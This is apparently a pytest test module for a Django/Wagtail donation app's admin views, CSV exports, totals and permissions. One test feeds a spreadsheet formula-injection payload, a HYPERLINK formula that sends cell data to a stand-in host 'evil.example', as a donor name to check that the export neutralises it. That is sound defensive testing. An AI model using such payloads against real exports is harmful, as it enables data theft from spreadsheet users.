"""Editors set up the donation page; staff read donations, events and totals."""

import csv
import io
from datetime import UTC, datetime

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from wagtail.models import Page
from wagtail.test.utils.form_data import inline_formset, nested_form_data

from donations.models import Donation, DonationCurrency, DonationPage, WebhookEvent
from donations.wagtail_hooks import monthly_totals
from tests.donations.factories import DonationFactory

pytestmark = pytest.mark.django_db


def test_donation_page_add_view_opens(admin_client, home):
    url = reverse("wagtailadmin_pages:add", args=("donations", "donationpage", home.pk))
    response = admin_client.get(url)

    assert response.status_code == 200
    assert 'name="introduction_ar"' in response.text
    assert 'name="currencies-TOTAL_FORMS"' in response.text


def test_donation_page_edit_view_opens(admin_client, donation_page):
    response = admin_client.get(
        reverse("wagtailadmin_pages:edit", args=(donation_page.pk,))
    )

    assert response.status_code == 200
    assert 'name="thank_you_message_ar"' in response.text
    assert "25, 50, 100, 250" in response.text


def page_form(currencies):
    return nested_form_data(
        {
            "title_en": "Give",
            "title_ar": "تبرّع",
            "slug_en": "give",
            "slug_ar": "تبرع",
            "introduction_en": "Help the volunteers.",
            "introduction_ar": "ساعد المتطوعين.",
            "currencies": inline_formset(currencies),
            "comments": inline_formset([]),
            "action-publish": "publish",
        }
    )


def test_editor_publishes_a_donation_page_with_currencies(admin_client, home):
    url = reverse("wagtailadmin_pages:add", args=("donations", "donationpage", home.pk))
    response = admin_client.post(
        url,
        page_form(
            [
                {
                    "currency": "USD",
                    "presets": "10, 20, 30",
                    "minimum": 5,
                    "maximum": 500,
                },
                {"currency": "EUR", "presets": "15", "minimum": 5, "maximum": 500},
            ]
        ),
    )

    assert response.status_code == 302
    page = DonationPage.objects.get(slug_en="give")
    assert page.live
    options = page.get_currency_options()
    assert list(options) == ["USD", "EUR"]
    assert options["USD"].preset_amounts == [1000, 2000, 3000]


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ({"presets": "10, abc"}, "“abc” is not an amount."),
        ({"presets": "1"}, "Every suggested amount must be between"),
        (
            {"presets": "10", "maximum": 3},
            "The largest gift must be above the smallest.",
        ),
    ],
)
def test_editor_gets_a_message_for_bad_amounts(admin_client, home, row, message):
    url = reverse("wagtailadmin_pages:add", args=("donations", "donationpage", home.pk))
    data = {"currency": "USD", "presets": "10", "minimum": 5, "maximum": 500, **row}
    response = admin_client.post(url, page_form([data]))

    assert response.status_code == 200
    assert message in response.text
    assert not DonationPage.objects.exists()


def test_currency_choices_are_the_supported_ones():
    field = DonationCurrency._meta.get_field("currency")
    assert [code for code, _label in field.choices] == ["USD", "EUR", "GBP"]


def test_staff_see_the_confirmed_gift_after_a_test_payment(
    client, admin_client, donation_page
):
    client.post(
        "/en/donate/",
        {"frequency": "one_off", "currency": "USD", "amount": "10000", "website": ""},
    )
    donation = Donation.objects.get()
    checkout = f"/en/donations/test-checkout/{donation.provider_reference}/"
    client.post(checkout, {"outcome": "pay"})

    listing = admin_client.get(reverse("donation:index"))
    assert listing.status_code == 200
    rows = BeautifulSoup(listing.content, "html.parser").select("tbody tr")
    assert len(rows) == 1
    text = rows[0].get_text(" ", strip=True)
    assert "$100" in text
    assert "Confirmed" in text

    inspect = admin_client.get(reverse("donation:inspect", args=(donation.pk,)))
    assert inspect.status_code == 200
    assert donation.provider_reference in inspect.text

    events = admin_client.get(reverse("webhookevent:index"))
    assert "checkout.session.completed" in events.text


def test_donations_listing_filters_by_status_currency_frequency_and_date(admin_client):
    DonationFactory(status=Donation.Status.PAID, currency="EUR")
    DonationFactory(status=Donation.Status.OPEN, currency="USD")
    DonationFactory(
        status=Donation.Status.PAID,
        currency="USD",
        frequency=Donation.Frequency.MONTHLY,
    )
    url = reverse("donation:index")

    def count(**params):
        response = admin_client.get(url, params)
        assert response.status_code == 200
        return len(BeautifulSoup(response.content, "html.parser").select("tbody tr"))

    assert count() == 3
    assert count(status="paid") == 2
    assert count(currency="EUR") == 1
    assert count(frequency="monthly") == 1
    assert count(created_at__date__gte="2999-01-01") == 0


def test_donations_search_by_reference(admin_client):
    DonationFactory(provider_reference="cs_test_findme")
    DonationFactory(provider_reference="cs_test_other")
    response = admin_client.get(reverse("donation:index"), {"q": "findme"})
    assert len(BeautifulSoup(response.content, "html.parser").select("tbody tr")) == 1


def test_donations_export_as_csv(admin_client):
    DonationFactory(amount_minor=2550, currency="EUR", status=Donation.Status.PAID)
    response = admin_client.get(reverse("donation:index"), {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    # Major units and the labels staff see, never 2550 or "paid".
    assert row["Amount"] == "25.50"
    assert row["Currency"] == "EUR"
    assert row["Status"] == "Confirmed"
    assert row["Frequency"] == "One-off"
    assert row["Reference"].startswith("SCD-")
    assert "amount_minor" not in header and "paid" not in rows[1]


def test_donations_export_never_writes_a_cell_that_runs(admin_client):
    # A donor's name comes from the payment page: a formula there must stay text.
    DonationFactory(
        donor_name='=HYPERLINK("https://evil.example/?"&B2,"x")',
        donor_email="@donor@example.org",
        status=Donation.Status.PAID,
    )
    response = admin_client.get(reverse("donation:index"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))
    row = dict(zip(header, row, strict=True))
    assert row["Donor name"] == '\'=HYPERLINK("https://evil.example/?"&B2,"x")'
    assert row["Donor email"] == "'@donor@example.org"
    assert row["Amount"][0].isdigit()  # numbers are left as numbers


def test_abandoned_checkouts_are_hidden_until_asked_for(admin_client):
    from datetime import timedelta

    from django.utils import timezone

    # Each gift has its own amount, shown in the listing's first column.
    DonationFactory(amount_minor=1100, status=Donation.Status.OPEN)  # live
    DonationFactory(amount_minor=1200, status=Donation.Status.PAID)
    DonationFactory(amount_minor=1300, status=Donation.Status.EXPIRED)
    DonationFactory(amount_minor=1400, status=Donation.Status.PROVIDER_ERROR)
    left_open = DonationFactory(amount_minor=1500, status=Donation.Status.OPEN)
    Donation.objects.filter(pk=left_open.pk).update(
        created_at=timezone.now() - timedelta(days=2)
    )

    def listed(**query):
        response = admin_client.get(reverse("donation:index"), query)
        assert response.status_code == 200
        rows = BeautifulSoup(response.content, "html.parser").select("tbody tr")
        return {row.select_one("td").get_text(strip=True) for row in rows}

    assert listed() == {"$11", "$12"}
    assert listed(show_abandoned="on") == {"$11", "$12", "$13", "$14", "$15"}
    assert listed(status="expired") == {"$13"}


def test_totals_for_a_date_range_as_csv(admin_client):
    for amount, currency, when in [
        (1250, "USD", datetime(2025, 2, 27, tzinfo=UTC)),
        (2500, "USD", datetime(2025, 3, 10, tzinfo=UTC)),
        (1000, "GBP", datetime(2025, 3, 31, 23, 0, tzinfo=UTC)),
        (9900, "USD", datetime(2025, 4, 1, tzinfo=UTC)),
    ]:
        DonationFactory(
            amount_minor=amount,
            currency=currency,
            status=Donation.Status.PAID,
            confirmed_at=when,
        )
    url = reverse("donation_totals:index")
    response = admin_client.get(url, {"start": "2025-03-01", "end": "2025-03-31"})
    assert response.status_code == 200
    assert "$25" in response.text and "£10" in response.text
    assert "$99" not in response.text and "$12.50" not in response.text

    export = admin_client.get(
        url, {"start": "2025-02-01", "end": "2025-03-31", "export": "csv"}
    )
    assert export["Content-Type"].startswith("text/csv")
    body = b"".join(export.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body))) == [
        ["Month", "Currency", "Gifts", "Total"],
        ["2025-03", "GBP", "1", "10.00"],
        ["2025-03", "USD", "1", "25.00"],
        ["2025-02", "USD", "1", "12.50"],
    ]


def test_totals_refuse_a_range_that_ends_before_it_starts(admin_client):
    response = admin_client.get(
        reverse("donation_totals:index"), {"start": "2025-04-01", "end": "2025-03-01"}
    )
    assert response.status_code == 200
    assert "The start date must be before the end date." in response.text


def test_nobody_can_add_edit_or_delete_donations(admin_client):
    donation = DonationFactory()
    for path in ("new/", f"edit/{donation.pk}/", f"delete/{donation.pk}/"):
        response = admin_client.get(f"/admin/donation/{path}", follow=True)
        assert response.status_code == 404
    listing = admin_client.get(reverse("donation:index"))
    assert "/admin/donation/new/" not in listing.text


def test_totals_per_currency_per_month(admin_client):
    march = datetime(2025, 3, 10, tzinfo=UTC)
    april = datetime(2025, 4, 2, tzinfo=UTC)
    for amount, currency, when in [
        (2500, "USD", march),
        (5000, "USD", march),
        (2000, "GBP", march),
        (10000, "USD", april),
    ]:
        DonationFactory(
            amount_minor=amount,
            currency=currency,
            status=Donation.Status.PAID,
            confirmed_at=when,
        )
    DonationFactory(amount_minor=999, status=Donation.Status.OPEN)
    DonationFactory(
        amount_minor=4000,
        currency="GBP",
        status=Donation.Status.REFUNDED,
        amount_refunded_minor=4000,
        confirmed_at=march,
    )

    months = monthly_totals()
    assert [m["label"] for m in months] == ["April 2025", "March 2025"]
    march_rows = {r["currency"]: r for r in months[1]["rows"]}
    assert march_rows["USD"]["total"] == "$75"
    assert march_rows["USD"]["count"] == 2
    assert march_rows["GBP"]["total_minor"] == 2000

    response = admin_client.get(reverse("donation_totals:index"))
    assert response.status_code == 200
    assert "$75" in response.text
    assert "March 2025" in response.text


def test_staff_without_permission_cannot_see_donations(
    client, django_user_model, sign_in
):
    user = django_user_model.objects.create_user("editor", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    sign_in(client, user)

    assert client.get(reverse("donation:index")).status_code in (302, 403)
    assert client.get(reverse("donation_totals:index")).status_code in (302, 403)


def test_finance_group_with_view_permission_reads_donations(
    client, django_user_model, sign_in
):
    group = Group.objects.create(name="Finance")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_donation"),
    )
    user = django_user_model.objects.create_user("finance", password="pw")
    user.groups.add(group)
    sign_in(client, user)
    DonationFactory()

    assert client.get(reverse("donation:index")).status_code == 200
    assert client.get(reverse("donation_totals:index")).status_code == 200
    assert client.get(reverse("webhookevent:index")).status_code in (302, 403)


def test_webhook_event_inspect_view(admin_client):
    event = WebhookEvent.objects.create(
        provider="stripe", event_id="evt_1", type="charge.refunded", payload={"a": 1}
    )
    response = admin_client.get(reverse("webhookevent:inspect", args=(event.pk,)))
    assert response.status_code == 200
    assert "evt_1" in response.text


def test_page_tree_has_one_donation_page(donation_page):
    assert Page.objects.type(DonationPage).count() == 1
